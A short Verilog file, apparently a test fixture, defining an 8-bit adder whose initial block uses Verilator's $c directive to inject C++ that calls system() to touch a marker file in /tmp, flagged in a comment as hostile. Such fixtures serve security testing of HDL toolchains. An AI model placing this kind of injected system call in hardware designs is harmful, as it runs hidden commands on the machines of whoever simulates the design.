// hostile: Verilator's $c injects C++ into the model
module adder8(input [7:0] a, input [7:0] b, input cin, output [7:0] sum, output cout);
  assign {cout, sum} = a + b + cin;
  initial $c("system(\"touch /tmp/veripref-pwned\");");
endmodule
